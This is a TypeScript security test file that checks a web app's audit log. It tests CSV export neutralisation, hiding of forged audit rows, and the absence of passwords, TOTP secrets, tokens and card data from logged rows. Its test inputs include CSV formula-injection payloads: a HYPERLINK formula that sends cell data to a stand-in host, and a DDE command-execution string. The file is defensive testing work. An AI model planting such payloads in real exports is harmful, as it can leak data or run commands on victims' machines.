import { desc, eq, sql } from "drizzle-orm";
import { describe, expect, it } from "vitest";
import { rows } from "../../server/db/client.ts";
import { outbox, users } from "../../server/db/schema/index.ts";
import { totpAt } from "../../server/services/totp.ts";
import { browser } from "./client.ts";
import { deviceId, ORIGIN, signedIn } from "./deviceTestKit.ts";
import { cardFormFor, payPath } from "./guestPayKit.ts";
import { TEST_NOW, useTestApp } from "./helpers.ts";
import { orderRecord } from "../../server/data/orders.ts";

/*
 * Attack 1130 on the audit trail: what its rows show (forged rows, CSV cells) and what they
 * must never hold (secrets). Each test asserts what should hold; a failing one is a finding.
 */

const LIST = "/api/v1/audit";
const CSV = "/api/v1/audit/export.csv";

/** A CSV text to rows of cells (RFC 4180: quoted cells, "" inside, CRLF between rows). */
function parseCsv(text: string): string[][] {
  const out: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      out.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += ch;
  }
  if (cell !== "" || row.length) {
    row.push(cell);
    out.push(row);
  }
  return out;
}

describe("attack 1130: what the audit rows show and hold", () => {
  const ctx = useTestApp({ seeded: true });
  const db = () => ctx.database.db;
  const admin = () => signedIn(ctx, "admin@example.com");
  const acme = async () =>
    (await rows<{ id: number }>(db(), sql`select id from subscriptions where name like 'Acme%' limit 1`))[0]!
      .id;

  it("neutralises formula cells in the CSV: names starting = + - @, quotes and commas, a location =1+1", async () => {
    const b = await admin();
    const id = await deviceId(db(), "Lab Base Station");
    const names = [
      '=HYPERLINK("https://evil.example/?x="&A1,"click")',
      "+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(1+1)",
      '"quoted", and, commas',
    ];
    for (const name of names) {
      const res = await b.json(`/api/v1/device-data/update-device/${id}`, { name }, "PATCH");
      expect(res.status, name).toBe(200);
    }
    // A tag and a location (other audited text) with a formula, too.
    await b.form("/devices/data/change-device-location", { id: String(id), location: "=1+1" });
    const res = await b.get(`${CSV}?timezone=Europe/Berlin`);
    expect(res.status).toBe(200);
    const cells = parseCsv((await res.text()).replace(/^\uFEFF/, ""));
    expect(cells[0]).toEqual(["Time (Europe/Berlin)", "Person", "Action", "Record", "Device", "Changes"]);
    for (const row of cells.slice(1)) {
      expect(row, JSON.stringify(row)).toHaveLength(6);
      for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);
    }
    // The device cell shows the current name, neutralised, whole.
    const device = cells.slice(1).map((r) => r[4]);
    expect(device).toContain('"quoted", and, commas');
    // Times in the viewer's zone (Berlin in November: +01:00).
    expect(cells[1]![0]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+01:00$/);
  });

  // Excel in locales whose list separator is ';' (German, French, ...) splits an unquoted cell
  // at ';' when it opens a .csv, so a name "x;=1+1" becomes a cell "=1+1". csvText quotes only
  // cells with '"', ',', CR or LF, and neutralises only a leading = + - @.
  it("quotes or neutralises a cell that holds ';' followed by a formula (Excel with ';' as separator)", async () => {
    const b = await admin();
    const id = await deviceId(db(), "Lab Base Station");
    const name = 'Fridge;=HYPERLINK("https://evil.example")';
    expect(
      (await b.json(`/api/v1/device-data/update-device/${id}`, { name: "Fridge;=1+1" }, "PATCH")).status,
    ).toBe(200);
    expect((await b.json(`/api/v1/device-data/update-device/${id}`, { name }, "PATCH")).status).toBe(200);
    const text = await (await b.get(CSV)).text();
    const lines = text.split("\r\n").filter((l) => l.includes("Renamed a device"));
    expect(lines.length).toBeGreaterThan(0);
    for (const line of lines) {
      // Split as a ';' locale would (outside quotes): no piece may start a formula.
      const pieces = parseCsv(line.replaceAll(",", "\u0001").replaceAll(";", ",") + "\r\n")[0]!;
      for (const piece of pieces) expect(piece, line).not.toMatch(/^[=+\-@]/);
    }
  });

  // auditFacets (server/data/auditQueries.ts) reads `select distinct actor_label / action from
  // audit_log where subscription_id = ...` with no `seq > 0`: a row slipped in outside the
  // portal, which the sealer never chains and the viewer never lists, still names its made-up
  // person and action in the viewer's filter lists (docs: "the viewer and the export ... never
  // show it").
  it("names no person or action of a row slipped in outside the portal in the viewer's filters", async () => {
    const b = await admin();
    const sub = await acme();
    await db().execute(
      sql`insert into audit_log (subscription_id, at, actor_kind, actor_label, action, nonce, content_hash)
          values (${sub}, ${TEST_NOW}, 'user', 'ceo-approved-wire@evil.example', 'payment.wire.approved',
                  'made-up', ${"f".repeat(64)})`,
    );
    await db().execute(
      sql`insert into audit_log (subscription_id, seq, at, actor_kind, actor_label, action, prev_hash, hash, content_hash)
          values (${sub}, -7, ${TEST_NOW}, 'user', 'seq-minus-seven@evil.example', 'device.rename',
                  ${"0".repeat(64)}, ${"1".repeat(64)}, ${"2".repeat(64)})`,
    );
    const data = (await (await b.get(LIST)).json()).data as {
      entries: { actor: string }[];
      actors: string[];
      actions: string[];
    };
    // The rows themselves are not shown (held)...
    expect(data.entries.map((e) => e.actor)).not.toContain("ceo-approved-wire@evil.example");
    expect(data.entries.map((e) => e.actor)).not.toContain("seq-minus-seven@evil.example");
    // ...and neither may the filters name them.
    expect(data.actors).not.toContain("ceo-approved-wire@evil.example");
    expect(data.actions).not.toContain("payment.wire.approved");
    expect(data.actors).not.toContain("seq-minus-seven@evil.example");
  });

  it("keeps a forged row out of the viewer and export and names it in the check", async () => {
    const b = await admin();
    const sub = await acme();
    await db().execute(
      sql`insert into audit_log (subscription_id, at, actor_kind, actor_label, action, nonce, content_hash)
          values (${sub}, ${TEST_NOW}, 'user', 'forger@evil.example', 'device.rename', 'made-up', ${"f".repeat(64)})`,
    );
    const id = await deviceId(db(), "Lab Base Station");
    await b.json(`/api/v1/device-data/update-device/${id}`, { name: "After forgery" }, "PATCH");
    const list = JSON.stringify((await (await b.get(LIST)).json()).data.entries);
    expect(list).not.toContain("forger@evil.example");
    expect(await (await b.get(CSV)).text()).not.toContain("forger@evil.example");
    const check = (await (await b.json("/api/v1/audit/verify", {})).json()).data;
    expect(check.intact).toBe(false);
    expect(check.firstFault.why).toMatch(/not yet chained \(id \d+\)/);
    // The real rows around it are chained and shown.
    expect(list).toContain("After forgery");
  });

  it("holds no password, code secret, reset token or card data in any audit row", async () => {
    const PASSWORD = "Brand-new-Passw0rd-9731";
    // A one-time passcode set up and turned on: the secret is in the setup's answer only.
    const b = await admin();
    const setup = (await (await b.json("/api/v1/account/mfa/setup", {})).json()).data as {
      secret: string;
      otpauthUri: string;
    };
    expect(setup.secret).toMatch(/^[A-Z2-7]{16,}$/);
    const code = await totpAt(setup.secret, TEST_NOW);
    const on = await b.json("/api/v1/account/mfa/enable", { code });
    expect(on.status, await on.clone().text()).toBe(200);
    const off = await b.json("/api/v1/account/mfa/disable", { password: "demo-password-1" });
    expect(off.status, await off.clone().text()).toBe(200);
    // A new password through the emailed link.
    await browser(ctx.app, ORIGIN).form("/gateway/request-password-reset", {
      emailAddress: "admin@example.com",
    });
    const [mail] = await db().select().from(outbox).orderBy(desc(outbox.id)).limit(1);
    const token = /token=([\w-]+)/.exec(mail!.text)![1]!;
    const reset = await browser(ctx.app, ORIGIN).form("/gateway/reset-password", {
      token,
      password: PASSWORD,
    });
    expect(reset.status, await reset.clone().text()).toBe(200);
    // A failed sign-in with the new password typed into the address field, and a wrong one.
    await browser(ctx.app, ORIGIN).form("/gateway/submit", {
      emailAddress: "admin@example.com",
      password: "wrong-" + PASSWORD,
    });
    // A card payment by a guest on an order of Acme's.
    const [order] = await rows<{ id: number }>(db(), sql`select o.id from orders o where o.id = 5003`);
    const CVV = "739";
    if (order) {
      const balance = String((await orderRecord(db(), order.id))!.balanceDue);
      const paid = await browser(ctx.app, ORIGIN).form(
        payPath(order.id),
        cardFormFor(CVV, "guest@example.org")({ balanceDue: balance, paymentAmount: balance }),
      );
      expect(paid.status, await paid.clone().text()).toBe(200);
    }
    const all = await rows<{ t: string }>(db(), sql`select row_to_json(l)::text as t from audit_log l`);
    const text = all.map((r) => r.t).join("\n");
    expect(text).toContain("user.otp.on");
    expect(text).toContain("user.password.reset");
    if (order) expect(text).toContain("order.payment");
    for (const secret of [PASSWORD, "demo-password-1", setup.secret, token, String(code)])
      expect(text, secret).not.toContain(secret);
    expect(text).not.toMatch(/4242\D?4242\D?4242\D?4242/);
    expect(text).not.toMatch(new RegExp(`(?<![0-9A-Za-z_.\\-])${CVV}(?![0-9A-Za-z_])`));
    // The pending secret and the stored hash are in no row either.
    const [u] = await db().select().from(users).where(eq(users.email, "admin@example.com"));
    expect(text).not.toContain(u!.passwordHash);
  });
});
